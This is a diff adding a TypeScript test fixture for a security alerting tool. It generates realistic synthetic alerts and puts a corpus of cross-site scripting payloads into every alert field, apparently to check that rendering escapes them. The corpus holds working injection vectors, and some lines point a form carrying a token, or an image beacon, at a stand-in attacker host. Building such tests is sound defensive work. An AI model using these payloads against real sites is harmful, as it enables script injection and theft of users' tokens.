@@ -1,0 +1,112 @@
+import { readFileSync } from 'node:fs'
+import type { Alert, AlertFacts, AlertText, Severity } from '@plumbline/schemas'
+
+interface Golden {
+  readonly facts: AlertFacts
+  readonly text: AlertText
+  readonly counterfactual?: string
+}
+
+const GOLDENS = new URL('../../packages/detector/src/8-alert/words.golden.json', import.meta.url)
+const SEVERITY_CYCLE: readonly Severity[] = ['high', 'medium', 'critical', 'low', 'medium', 'high', 'low']
+const MINUTE = 60_000
+
+/** As many alerts as asked for, worded by the detector's own goldens, one every few minutes back from `now`. */
+export function realisticAlerts(count: number, now: number): Alert[] {
+  const goldens = JSON.parse(readFileSync(GOLDENS, 'utf8')) as readonly Golden[]
+  return Array.from({ length: count }, (_, i) => {
+    const golden = goldens[i % goldens.length] as Golden
+    const lastSeen = now - i * 7 * MINUTE
+    const firstSeen = lastSeen - (i % 4) * 3 * MINUTE
+    const position = { topic: 'plumbline.events', shard: i % 64, offset: 1000 + i }
+    return {
+      v: 1,
+      id: `00000000-0000-5000-8000-${String(i).padStart(12, '0')}`,
+      revision: 1,
+      activity: 'create',
+      family: golden.facts.reasons[0]?.family ?? 'combination',
+      groupKey: `g-${i}`,
+      severity: SEVERITY_CYCLE[i % SEVERITY_CYCLE.length] ?? 'low',
+      score: 99 - (i % 40),
+      risk: 90 - (i % 60),
+      critical: i % 7 === 2,
+      historic: false,
+      facts: { ...golden.facts, tenant: i % 3 === 0 ? 'default' : 'demo', time: firstSeen },
+      text: golden.text,
+      techniques: [
+        { uid: 'AML.T0086', name: 'Exfiltration via AI agent tool invocation', framework: 'ATLAS' },
+        { uid: 'T1078', name: 'Valid accounts', framework: 'ATT&CK' },
+      ],
+      firstSeen,
+      lastSeen,
+      count: 1 + ((i * 37) % 214),
+      suppressed: (i * 37) % 214,
+      evidence: [position],
+      ...(golden.counterfactual !== undefined && { counterfactual: golden.counterfactual }),
+      replay: {
+        position,
+        releaseId: 'r1',
+        stateVersion: 1,
+        configHash: 'c',
+        policyHash: 'p',
+        detectorVersion: '0.1.0',
+        catalogueHash: 'f',
+      },
+    }
+  })
+}
+
+/** What people put into pages to run code there (B17), each able to say so through `window.pwned`. */
+export const XSS_CORPUS: readonly string[] = [
+  '<script>window.pwned=1</script>',
+  '"><img src=x onerror="window.pwned=2">',
+  "'><svg/onload=window.pwned=3>",
+  '<iframe srcdoc="<script>parent.pwned=4</script>"></iframe>',
+  'javascript:window.pwned=5//',
+  '<a href="javascript:window.pwned=6">click</a>',
+  '<style>@import"data:text/css,*{display:none}"</style>',
+  '</title></textarea></script><script>window.pwned=7</script>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=8>',
+  '{{constructor.constructor("window.pwned=9")()}}',
+  '<base href="https://attacker.invalid/">',
+  '<form action="https://attacker.invalid/"><input name=token autofocus onfocus=window.pwned=10>',
+  '<img src="https://attacker.invalid/beacon.png">',
+  '\u202Egnp.exe <b>bold</b>',
+]
+
+/** An alert with the text in every field that an event or a policy can reach. */
+export function hostileAlert(text: string, index: number, now: number): Alert {
+  const [base] = realisticAlerts(1, now) as [Alert]
+  return {
+    ...base,
+    id: `hostile-${index}`,
+    facts: {
+      ...base.facts,
+      tenant: 'hostile',
+      identity: { ...base.facts.identity, id: text, owner: text, contact: text, purpose: text, runbook: text, attested: text },
+      onBehalfOf: text,
+      session: text,
+      action: text,
+      resource: { id: text, class: text },
+      destination: text,
+      reasons: [
+        {
+          family: 'toxic_flow',
+          feature: text,
+          object: text,
+          trigger: text,
+          previous: text,
+          observed: { value: 3, unit: 'events' },
+          weight: 1,
+        },
+        { family: 'travel', feature: text, object: text, previous: text, observed: { value: 3, unit: 'km/h' }, weight: 0 },
+      ],
+      change: text,
+    },
+    text: { headline: text, normal: text, why: text, certainty: text, firstStep: text },
+    counterfactual: text,
+    techniques: [{ uid: text, name: text, framework: 'ATLAS' }],
+    firstSeen: now + index,
+    lastSeen: now + index,
+  }
+}
